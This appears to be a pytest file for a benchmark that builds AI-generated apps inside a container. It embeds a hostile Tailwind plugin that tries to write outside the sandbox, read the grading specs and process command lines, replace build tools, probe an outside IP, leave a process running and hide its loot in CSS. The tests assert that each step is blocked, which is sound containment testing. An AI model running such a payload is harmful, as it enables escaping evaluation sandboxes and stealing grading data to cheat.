"""The contained build axis (issue 18, item 1): a generated app's build tools run in a container, never here.

The attack is the one of the issue: ``src/index.css`` says ``@plugin "./theme-tokens.cjs";`` so Tailwind 4
loads the candidate's JavaScript inside ``vite build``. The plugin tries to write a file outside the build
folder, to read the navigation specs of ``cases/app_generation/`` and pytest's command line, and to leave
a process behind; it smuggles what it found into the built CSS. The build-input tests are pure; the rest
need a Docker daemon (marked ``docker``) and build the scaffold image once (minutes on a fresh daemon).
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest

from pytest_mobilebench.suites.app_generation import build, container

ROOT = Path(__file__).resolve().parents[1]
APP = ROOT / "fixtures" / "apps" / "tabs_demo"
CASES = ROOT / "cases" / "app_generation"

_PLUGIN = r"""
const fs = require("fs");
const path = require("path");
const loot = {};
try {
  fs.mkdirSync(path.dirname(SENTINEL), { recursive: true });
  fs.writeFileSync(SENTINEL, "pwned");
  loot.wrote = "yes";
} catch (e) { loot.wrote = String(e.code); }
try { loot.cases = fs.readdirSync(CASES); } catch (e) { loot.cases = String(e.code); }
try { loot.spec = fs.readFileSync(CASES + "/tabs_demo.yaml", "utf8").slice(0, 300); }
catch (e) { loot.spec = String(e.code); }
loot.cmdlines = [];
try {
  for (const d of fs.readdirSync("/proc")) {
    if (!/^\d+$/.test(d)) continue;
    try { loot.cmdlines.push(fs.readFileSync("/proc/" + d + "/cmdline", "utf8").split("\0").join(" ")); } catch (e) {}
  }
} catch (e) { loot.cmdlines.push(String(e.code)); }
loot.uid = process.getuid();
try { fs.writeFileSync("node_modules/.bin/tsc", "// replaced"); loot.runner = "replaced"; }
catch (e) { loot.runner = String(e.code); }
const probe = "require('net').connect(80, '203.0.113.9')"
  + ".on('error', e => console.log(e.code)).on('connect', () => console.log('CONNECTED'))";
try {
  const done = require("child_process").spawnSync(process.execPath, ["-e", probe], { timeout: 8000 });
  loot.net = done.stdout.toString().trim();
}
catch (e) { loot.net = String(e.code); }
try {
  require("child_process").spawn("sleep", [LINGER], { detached: true, stdio: "ignore" }).unref();
  loot.spawned = "yes";
}
catch (e) { loot.spawned = String(e.code); }
const b64 = Buffer.from(JSON.stringify(loot)).toString("base64");
module.exports = function ({ addBase }) { addBase({ ":root": { "--mb-loot": '"' + b64 + '"' } }); };
"""


def _attack_app(root: Path, sentinel: Path, linger: str) -> Path:
    """A copy of the good fixture app whose stylesheet loads the attacking Tailwind plugin."""
    app = root / "attack"
    shutil.copytree(APP / "src", app / "src")
    css = app / "src" / "index.css"
    css.write_text(css.read_text(encoding="utf-8") + '\n@plugin "./theme-tokens.cjs";\n', encoding="utf-8")
    head = f"const SENTINEL = {json.dumps(str(sentinel))};\nconst CASES = {json.dumps(str(CASES))};\n"
    head += f"const LINGER = {json.dumps(linger)};\n"
    (app / "src" / "theme-tokens.cjs").write_text(head + _PLUGIN, encoding="utf-8")
    return app


def _lingering(linger: str) -> list[str]:
    out = subprocess.run(["pgrep", "-af", f"sleep {linger}"], capture_output=True, text=True, check=False)
    return [line for line in out.stdout.splitlines() if "pgrep" not in line]


# ------------------------------------------------------------------------------------------ pure


def test_build_inputs_are_src_public_and_index_without_links(tmp_path: Path) -> None:
    (tmp_path / "src" / "dist").mkdir(parents=True)
    (tmp_path / "src" / "node_modules").mkdir()
    (tmp_path / "public").mkdir()
    (tmp_path / "src" / "main.tsx").write_text("x")
    (tmp_path / "src" / "dist" / "gen.ts").write_text("y")
    (tmp_path / "src" / "node_modules" / "skip.js").write_text("z")
    (tmp_path / "public" / "icon.svg").write_text("<svg/>")
    (tmp_path / "index.html").write_text("<html/>")
    (tmp_path / "README.md").write_text("not built")
    (tmp_path / "src" / "leak.txt").symlink_to("/etc/passwd")
    (tmp_path / "src" / "hostdir").symlink_to("/etc", target_is_directory=True)
    files, refused = container.build_inputs(tmp_path)
    assert sorted(files) == ["index.html", "public/icon.svg", "src/dist/gen.ts", "src/main.tsx"]
    assert any("leak.txt" in r for r in refused) and any("hostdir" in r for r in refused)
    tar = container.inputs_tar(files, uid=10001, gid=10001)
    import io
    import tarfile

    with tarfile.open(fileobj=io.BytesIO(tar)) as tf:
        members = tf.getmembers()
    assert {m.uid for m in members} == {10001} and all(m.isfile() or m.isdir() for m in members)
    assert {m.name for m in members if m.isdir()} == {"public", "src", "src/dist"}


def test_build_inputs_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "src").mkdir()
    for i in range(5):
        (tmp_path / "src" / f"f{i}.ts").write_text("x" * 100)
    monkeypatch.setattr(container, "MAX_INPUT_FILES", 3)
    with pytest.raises(ValueError, match="exceed"):
        container.build_inputs(tmp_path)


def test_an_oversized_input_is_refused_before_it_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A sparse file of any size costs the candidate nothing to ship; reading it first would fill this
    process's memory. Its size is checked from the file system, before a byte is read."""
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "main.ts").write_text("export {}\n")
    with open(tmp_path / "src" / "huge.bin", "wb") as handle:
        handle.truncate(10_000)  # sparse: the real attack says 1 TiB
    monkeypatch.setattr(container, "MAX_INPUT_BYTES", 1_000)
    read: list[str] = []
    real = Path.read_bytes
    monkeypatch.setattr(Path, "read_bytes", lambda self: read.append(self.name) or real(self))
    with pytest.raises(ValueError, match="exceed"):
        container.build_inputs(tmp_path)
    assert "huge.bin" not in read


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
def test_an_archive_that_expands_past_the_bound_is_refused_before_extraction(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """A compressed project is a zip bomb waiting to happen: its declared sizes are summed first."""
    import io
    import tarfile
    import zipfile

    from pytest_mobilebench.suites import app_generation

    archive = tmp_path / f"app.{kind}"
    zeros = b"\0" * 200_000
    if kind == "zip":
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr("src/main.ts", "export {}\n")
            zf.writestr("src/zeros.bin", zeros)
    else:
        with tarfile.open(archive, "w:gz") as tf:
            info = tarfile.TarInfo("src/zeros.bin")
            info.size = len(zeros)
            tf.addfile(info, io.BytesIO(zeros))
    assert archive.stat().st_size < 10_000
    monkeypatch.setattr(app_generation, "MAX_ARCHIVE_BYTES", 100_000)
    with pytest.raises(ValueError, match="expands"):
        app_generation.resolve_project(archive, tmp_path / "out")
    assert not any((tmp_path / "out").rglob("zeros.bin"))


# ---------------------------------------------------------------------------------------- docker

docker = pytest.importorskip("docker", reason="the docker SDK is not installed (pip install docker)")


@pytest.fixture(scope="module")
def builder() -> Any:
    from pytest_mobilebench.runtime.base import InfraError
    from pytest_mobilebench.runtime.docker import connect
    from pytest_mobilebench.runtime.provider import DockerProvider

    try:
        client = connect(timeout_s=5)
    except InfraError as exc:
        pytest.skip(f"no Docker daemon answers: {exc.message}")
    # the runtime the docker provider hands the suite (its options at their defaults)
    runtime = DockerProvider().runtime({}, f"test-appgen-{uuid.uuid4().hex[:8]}", client=client)
    made = container.ContainedBuilder(runtime, scaffold_dir=build.SCAFFOLD_DIR)
    try:
        made.warm()
    except InfraError as exc:
        pytest.skip(f"the scaffold image cannot be built here: {exc}")
    return made


@pytest.mark.docker
def test_contained_build_of_the_attack(builder: Any, tmp_path: Path) -> None:
    sentinel = tmp_path / "outside" / "pwned.txt"
    linger = f"{61 + uuid.uuid4().int % 500}"
    files, refused = container.build_inputs(_attack_app(tmp_path, sentinel, linger))
    assert refused == [] and "src/theme-tokens.cjs" in files
    out = builder.build(files, instance_id="attack", timeout_s=300)
    assert (out.tsc_exit, out.vite_exit) == (0, 0), out.vite_out[-2000:]
    assert "index.html" in out.dist and out.rejected == ()
    css = next(data for name, data in out.dist.items() if name.endswith(".css")).decode()
    loot = json.loads(base64.b64decode(re.search(r'--mb-loot:\s*"([A-Za-z0-9+/=]+)"', css).group(1)))
    # the plugin ran (it is the candidate's build), but only inside its container
    assert loot["cases"] == "ENOENT" and loot["spec"] == "ENOENT"
    assert not any("pytest" in c for c in loot["cmdlines"]), loot["cmdlines"]
    # as the unprivileged user, offline, unable to replace the build tools
    assert loot["uid"] == 10001 and loot["runner"] == "EACCES" and loot["net"] != "CONNECTED", loot
    assert not sentinel.exists() and not sentinel.parent.exists()
    assert _lingering(linger) == []


@pytest.mark.docker
def test_contained_build_counts_errors(builder: Any, tmp_path: Path) -> None:
    broken = tmp_path / "broken"
    shutil.copytree(APP / "src", broken / "src")
    main = broken / "src" / "main.tsx"
    main.write_text(
        main.read_text(encoding="utf-8") + '\nimport Ghost from "./Ghost";\nconst n: number = "x";\n'
        "console.log(Ghost, n);\n",
        encoding="utf-8",
    )
    files, _ = container.build_inputs(broken)
    out = builder.build(files, instance_id="broken", timeout_s=300)
    graded = build.grade_build(
        out.tsc_exit,
        out.tsc_out,
        out.vite_exit,
        out.vite_out,
        has_index="index.html" in out.dist,
        dist=None,
        tsc_log=None,
        vite_log=None,
        seconds=out.seconds,
    )
    assert not graded.ok and graded.tsc_errors == 2 and graded.vite_errors == 1


@pytest.mark.e2e
@pytest.mark.docker
def test_attack_run_end_to_end_is_graded_on_what_it_built(builder: Any, tmp_path: Path) -> None:
    """The whole plugin, as a user runs it: the attacker's prediction (with a prebuilt skeleton it hopes is
    used) builds in a container; nothing lands outside it, and the item is graded on its own bundle."""
    sentinel = tmp_path / "outside" / "pwned.txt"
    linger = f"{61 + uuid.uuid4().int % 500}"
    app = _attack_app(tmp_path, sentinel, linger)
    preds = tmp_path / "preds.jsonl"
    preds.write_text(
        json.dumps(
            {
                "instance_id": "tabs_demo",
                "model_name_or_path": "attacker",
                "project_path": str(app),
                "input_tokens": 1,
                "output_tokens": 1,
                "llm_calls": 1,
                "llm_seconds": 1.0,
            }
        )
        + "\n"
    )
    reports = tmp_path / "reports"
    env = {**os.environ, "PYTHONPATH": str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", "")}
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            "cases/app_generation",
            f"--predictions={preds}",
            "-n",
            "0",
            "-p",
            "no:cacheprovider",
            "-p",
            "no:randomly",
            f"--mb-reports-dir={reports}",
            "-q",
        ],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=1200,
        check=False,
    )
    rows = [
        json.loads(line) for line in (reports / "latest" / "results.jsonl").read_text().splitlines() if line.strip()
    ]
    assert len(rows) == 1, proc.stdout[-3000:]
    row = rows[0]
    props = row["properties"]
    assert props["build_mode"] == "container" and props["build_ok"] is True, row.get("detail")
    assert (row["reason"], props["nav_passed"], props["nav_total"]) == ("ok", 11, 11), row.get("detail")
    assert not sentinel.exists() and not sentinel.parent.exists()
    assert _lingering(linger) == []


@pytest.mark.docker
def test_a_build_that_never_ends_is_killed_at_the_time_limit(builder: Any, tmp_path: Path) -> None:
    app = tmp_path / "spin"
    shutil.copytree(APP / "src", app / "src")
    css = app / "src" / "index.css"
    css.write_text(css.read_text(encoding="utf-8") + '\n@plugin "./spin.cjs";\n', encoding="utf-8")
    (app / "src" / "spin.cjs").write_text("for (;;) {}\nmodule.exports = function () {};\n", encoding="utf-8")
    files, _ = container.build_inputs(app)
    out = builder.build(files, instance_id="spin", timeout_s=60)
    assert out.tsc_exit == 0 and out.vite_exit == -1 and out.dist == {}
    graded = build.grade_build(
        out.tsc_exit,
        out.tsc_out,
        out.vite_exit,
        out.vite_out,
        has_index=False,
        dist=None,
        tsc_log=None,
        vite_log=None,
        seconds=out.seconds,
    )
    assert not graded.ok and graded.vite_errors == 1


@pytest.mark.docker
def test_the_live_agents_starter_project_builds_as_it_is(builder: Any) -> None:
    """The ``src/`` a live agent's sandbox starts from type-checks and builds in the scaffold: an agent starts
    from a working app, and a project it leaves untouched is graded as that app (it builds; its specs fail)."""
    from pytest_mobilebench.suites.app_generation.live import starter_files

    files = starter_files()
    assert sorted(files) == ["src/App.tsx", "src/index.css", "src/main.tsx"]
    out = builder.build(
        {**files, "index.html": (build.SCAFFOLD_DIR / "index.html").read_bytes()}, instance_id="starter", timeout_s=300
    )
    graded = build.grade_build(
        out.tsc_exit,
        out.tsc_out,
        out.vite_exit,
        out.vite_out,
        has_index="index.html" in out.dist,
        dist=None,
        tsc_log=None,
        vite_log=None,
        seconds=out.seconds,
    )
    assert graded.ok, (out.tsc_out, out.vite_out)
